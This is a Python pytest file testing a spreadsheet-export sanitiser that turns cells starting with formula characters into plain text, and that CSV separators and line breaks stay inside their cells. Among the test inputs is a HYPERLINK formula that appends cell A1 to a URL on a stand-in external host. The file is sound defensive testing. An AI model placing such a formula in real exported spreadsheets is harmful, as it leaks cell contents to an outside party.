"""Tables for spreadsheets: no cell is ever calculated."""

from __future__ import annotations

import csv
import io

import pytest

from transcription.formats.tables import safe_cell, write_lines


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        '=HYPERLINK("http://elsewhere.example/?"&A1)',
        "＝1",
    ],
)
def test_a_cell_that_would_be_calculated_is_text(cell: str) -> None:
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Weekly meeting", "a=b", "10.0.0.7", "例会", "'quoted"])
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_separators_and_line_breaks_stay_within_their_cell() -> None:
    row = ["a,b", 'say "so"', "two\nlines", ""]
    (read,) = csv.reader(io.StringIO(write_lines([row])))
    assert read == row
